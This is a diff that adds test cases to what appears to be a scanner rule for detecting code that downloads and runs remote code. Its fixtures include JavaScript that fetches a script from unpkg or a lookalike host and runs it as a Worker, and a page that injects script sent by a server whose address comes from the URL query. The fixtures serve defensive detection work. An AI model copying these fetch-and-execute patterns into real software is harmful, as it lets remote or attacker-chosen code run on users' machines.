@@ -8,6 +8,20 @@ const UPDATES = `const fs = require('fs'), path = require('path'), os = require(
 examine(runsDownloadedCode, {
   speaks: [
     {
+      when: 'a worker is taken from where published packages are served',
+      files: {
+        'index.js': `exports.record = async () => { const code = await (await fetch('https://unpkg.com/specimen-worker@1/worker.js')).text(); return new Worker(URL.createObjectURL(new Blob([code], { type: 'text/javascript' }))); }`,
+      },
+      weight: 'weak',
+    },
+    {
+      when: 'a worker is taken from somewhere else',
+      files: {
+        'index.js': `exports.record = async () => { const code = await (await fetch('https://unpkg.com.inert.invalid/worker.js')).text(); return new Worker(URL.createObjectURL(new Blob([code], { type: 'text/javascript' }))); }`,
+      },
+      weight: 'strong',
+    },
+    {
       when: 'a page runs what a server sends that the address of the page names',
       files: {
         'index.js': `const socket = new WebSocket(\`wss://\${new URLSearchParams(window.location.search).get('host')}/message\`); socket.addEventListener('message', ({ data }) => { const script = document.createElement('script'); script.text = data; document.body.appendChild(script); });`,
